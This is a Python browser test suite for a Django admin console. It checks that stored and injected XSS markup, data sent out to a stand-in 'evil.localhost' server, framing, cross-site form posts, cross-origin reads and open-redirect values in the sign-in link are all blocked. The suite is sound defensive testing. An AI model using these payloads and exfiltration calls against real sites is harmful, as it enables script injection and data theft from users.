"""Attacks that only a real browser can stop: what pages of other sites, injected markup and the Back button reach."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from django.conf import settings
from playwright.sync_api import BrowserContext, Dialog, Page, expect
from pytest_django.live_server_helper import LiveServer

from directory.actions import due_runs
from directory.models import Alert, SyncSettings
from orgs.models import User
from tests.attacks.attempts import attack
from tests.browser.conftest import FLAGS
from tests.makers import NOW, PASSWORD, make_alert, make_device, make_sysadmin, make_user

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.whole]

MARKUP = """<img src=x onerror="window.hurt=1"><script>window.hurt=1</script><svg onload="window.hurt=1">"""


@pytest.fixture(scope="session")
def browser_type_launch_args(browser_type_launch_args: dict[str, Any]) -> dict[str, Any]:
    """Use Debian's chromium."""
    return {**browser_type_launch_args, "executable_path": "/usr/bin/chromium", "args": FLAGS}


class Evil(BaseHTTPRequestHandler):
    """A site that shows what it is told to, and remembers who came."""

    def __init__(self, *args: Any, pages: dict[str, str], visits: list[str]) -> None:
        self.pages, self.visits = pages, visits
        super().__init__(*args)

    def do_GET(self) -> None:
        """Send a page."""
        self.visits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.end_headers()
        self.wfile.write(self.pages.get(self.path, "").encode())

    def log_message(self, *_: object) -> None:
        """Say nothing."""


class Site:
    """Another site, on another name of this machine."""

    def __init__(self) -> None:
        self.pages: dict[str, str] = {}
        self.visits: list[str] = []
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Evil, pages=self.pages, visits=self.visits))
        # A browser opens connections that it may never use: nobody waits for those.
        self.server.block_on_close = False
        self.address = f"http://evil.localhost:{self.server.server_port}"

    def shows(self, html: str) -> str:
        """Put up a page; its address."""
        path = f"/{len(self.pages)}"
        self.pages[path] = f"<!DOCTYPE html><html><body>{html}</body></html>"
        return self.address + path


@pytest.fixture
def evil() -> Iterator[Site]:
    """A site of an attacker's."""
    site = Site()
    thread = threading.Thread(target=site.server.serve_forever)
    thread.start()
    yield site
    site.server.shutdown()
    thread.join()
    site.server.server_close()


@pytest.fixture
def ada() -> User:
    SyncSettings.load()
    # The first look at the schedule notes from when on it counts.
    due_runs.next_runs(at=NOW)
    return make_sysadmin()


@pytest.fixture
def signed(page: Page, live_server: LiveServer, ada: User) -> Page:
    """A browser in which the SYSADMIN has just signed in."""
    sign_in(page, live_server.url)
    return page


def sign_in(page: Page, address: str) -> None:
    page.goto(address)
    page.get_by_label("Username").fill("ada")
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Dashboard")


class TestMarkup:
    def test_from_a_directory_does_nothing(self, signed: Page, live_server: LiveServer) -> None:
        victim = make_user("victim", first_name=MARKUP, last_name=MARKUP, email=MARKUP)
        make_device(victim, MARKUP)
        make_alert(MARKUP)
        dialogs: list[str] = []

        def dismiss(dialog: Dialog) -> None:
            dialogs.append(dialog.message)
            dialog.dismiss()

        signed.on("dialog", dismiss)

        with attack(
            "a script in names, devices and alerts, in a browser",
            how=f"{MARKUP} stored there; dashboard, users, devices, alerts, audit opened",
            expected="shown as text; nothing runs",
        ) as attempt:
            for place in (
                "/",
                "/users/",
                f"/users/{victim.pk}/",
                "/devices/",
                "/alerts/",
                "/audit/",
                "/data-fixes/orgs/user/",
            ):
                signed.goto(f"{live_server.url}{place}")
                expect(signed.locator("body")).to_be_visible()
                assert signed.evaluate("window.hurt") is None
                attempt.note("shown")
            assert dialogs == []

    def test_that_gets_into_a_page_runs_nothing(self, signed: Page, live_server: LiveServer) -> None:
        with attack(
            "a script that got into a page all the same",
            how="the same markup put into the page by hand, with a style and a frame",
            expected="stopped by the Content-Security-Policy",
        ) as attempt:
            refused: list[str] = []
            signed.on(
                "console",
                lambda message: refused.append(message.text) if "Content Security Policy" in message.text else None,
            )
            more = '<style>body{display:none}</style><iframe src="https://evil.localhost"></iframe><a href="javascript:window.hurt=1" id="go">x</a>'
            signed.evaluate(
                "html => document.getElementById('content').insertAdjacentHTML('beforeend', html)", more + MARKUP
            )
            signed.evaluate("document.getElementById('go').click()")
            signed.evaluate(
                "() => { const s = document.createElement('script'); s.textContent = 'window.hurt=1'; document.body.append(s); }"
            )
            signed.wait_for_function("document.querySelectorAll('img[src=x]').length === 1")
            assert signed.evaluate("window.hurt") is None
            expect(signed.locator("body")).to_be_visible()
            attempt.note(f"{len(refused)} times stopped")
            assert len(refused) >= 4

    def test_can_send_nothing_elsewhere(self, signed: Page, live_server: LiveServer, evil: Site) -> None:
        with attack(
            "data sent to another site from a page",
            how="fetch, a picture, a form and a beacon to another site",
            expected="stopped by the Content-Security-Policy",
        ) as attempt:
            address = evil.shows("got it")
            failed = signed.evaluate("address => fetch(address).then(() => false, () => true)", address)
            signed.evaluate(
                "address => new Promise(done => { const i = new Image(); i.onerror = i.onload = done; i.src = address; })",
                address,
            )
            signed.evaluate("address => navigator.sendBeacon(address, 'x')", address)
            with signed.expect_console_message(lambda message: "form-action" in message.text):
                signed.evaluate(
                    "address => { const f = document.createElement('form'); f.action = address; document.body.append(f); f.submit(); }",
                    address,
                )
            attempt.note("nothing arrived there")
            assert failed
            assert evil.visits == []


class TestCookies:
    def test_are_not_seen_by_scripts(self, signed: Page) -> None:
        with attack("cookies read by a script", how="document.cookie", expected="no session, no form token") as attempt:
            seen = signed.evaluate("document.cookie")
            attempt.note(f"seen: {seen.partition('=')[0] or 'none'}")
            for name in ("session", "csrf", "known"):
                assert f"{name}=" not in seen


class TestOtherSites:
    def test_can_not_frame_a_page(self, signed: Page, live_server: LiveServer, evil: Site) -> None:
        with attack(
            "a page framed by another site",
            how="a frame with the dashboard and one with the sign-in",
            expected="both stay empty",
        ) as attempt:
            signed.goto(
                evil.shows(
                    f'<iframe src="{live_server.url}/"></iframe><iframe src="{live_server.url}/sign-in/"></iframe>'
                )
            )
            signed.wait_for_load_state("networkidle")
            for frame in signed.frames[1:]:
                assert "Rollcall" not in frame.content()
                attempt.note("empty")

    def test_can_not_send_a_form(self, signed: Page, live_server: LiveServer, evil: Site) -> None:
        alert = make_alert("Look here")
        address = f"{live_server.url}/alerts/{alert.pk}/dismiss/"

        with attack(
            "a form sent from another site, by whoever is signed in",
            how="a page that sends a form to dismiss an alert as soon as it opens",
            expected="the sign-in or 403; the alert stays",
        ) as attempt:
            page = evil.shows(f'<form method="post" action="{address}" id="f"></form><script>f.submit()</script>')
            with signed.expect_response(address) as sent:
                signed.goto(page)
            attempt.note(str(sent.value.status))
            assert sent.value.status in {302, 403}
            assert Alert.objects.get(pk=alert.pk).dismissed_at is None

    def test_can_not_read_a_page(self, signed: Page, live_server: LiveServer, evil: Site) -> None:
        with attack(
            "a page read by a script of another site",
            how="fetch with cookies, and the export as a script",
            expected="refused by the browser: no answer is shared",
        ) as attempt:
            signed.goto(evil.shows("x"))
            read = "address => fetch(address, {credentials: 'include'}).then(answer => answer.text(), () => 'refused')"
            for place in ("/", "/users/users.csv"):
                assert signed.evaluate(read, f"{live_server.url}{place}") == "refused"
                attempt.note("refused")

    def test_have_no_hold_on_a_window_that_they_open(self, signed: Page, live_server: LiveServer, evil: Site) -> None:
        with attack(
            "a window of the console held by the site that opened it",
            how="window.open of the dashboard from another site, then looking at it",
            expected="the hold is cut",
        ) as attempt:
            signed.goto(evil.shows('<button id=b onclick="window.held = window.open(this.dataset.to)">x</button>'))
            signed.evaluate("address => { document.getElementById('b').dataset.to = address }", f"{live_server.url}/")
            with signed.expect_popup() as opened:
                signed.click("#b")
            opened.value.wait_for_load_state()
            signed.wait_for_function("window.held.closed")
            attempt.note("cut")

    def test_do_not_learn_where_one_came_from(self, signed: Page, live_server: LiveServer, evil: Site) -> None:
        with attack(
            "the address of a page given to another site",
            how="a link from a list with a search in its address to another site",
            expected="no Referer",
        ) as attempt:
            signed.goto(f"{live_server.url}/users/?q=secret")
            signed.evaluate(
                "address => { const a = document.createElement('a'); a.href = address; a.id = 'out'; a.textContent = 'out'; document.getElementById('content').append(a); }",
                evil.shows("x"),
            )
            with signed.expect_navigation():
                signed.click("#out")
            assert signed.evaluate("document.referrer") == ""
            attempt.note("no Referer")


class TestAfterSigningOut:
    def test_back_shows_nothing(self, signed: Page, live_server: LiveServer) -> None:
        make_user("secret.person")

        with attack(
            "“Back” after signing out",
            how="the list of users, sign out, Back twice, Reload",
            expected="the sign-in, no name of the list",
        ) as attempt:
            signed.goto(f"{live_server.url}/users/")
            expect(signed.locator("body")).to_contain_text("secret.person")
            signed.get_by_text("ada", exact=True).first.click()
            signed.get_by_role("button", name="Sign out").click()
            expect(signed.get_by_role("heading", level=1)).to_have_text("Sign in")
            signed.go_back()
            expect(signed.locator("body")).not_to_contain_text("secret.person")
            signed.go_back()
            expect(signed.locator("body")).not_to_contain_text("secret.person")
            attempt.note("the sign-in")

    def test_an_open_page_goes_to_the_sign_in(
        self, signed: Page, live_server: LiveServer, context: BrowserContext
    ) -> None:
        with attack(
            "a page left open after the session has ended elsewhere",
            how="the list of users open, its session gone, then a search in it",
            expected="the whole window goes to the sign-in and comes back from there",
        ) as attempt:
            signed.goto(f"{live_server.url}/users/")
            context.clear_cookies(name=settings.SESSION_COOKIE_NAME)
            signed.get_by_label("Search").first.fill("x")
            signed.wait_for_url("**/sign-in/?next=*")
            attempt.note("the sign-in")

    def test_signing_in_leads_to_no_other_site(
        self, page: Page, live_server: LiveServer, ada: User, evil: Site
    ) -> None:
        with attack(
            "the sign-in as a way to another site, in a browser",
            how="/sign-in/?next=//evil…, /\\evil… and javascript:, then signing in",
            expected="the dashboard of this console",
        ) as attempt:
            for address in (
                evil.shows("x").removeprefix("http:"),
                "/\\" + evil.shows("x").removeprefix("http://"),
                "javascript:window.hurt=1",
            ):
                page.context.clear_cookies()
                page.goto(f"{live_server.url}/sign-in/?next={address}")
                page.get_by_label("Username").fill("ada")
                page.get_by_label("Password").fill(PASSWORD)
                page.get_by_role("button", name="Sign in").click()
                expect(page.get_by_role("heading", level=1)).to_have_text("Dashboard")
                assert page.url == f"{live_server.url}/"
                attempt.note("the dashboard")
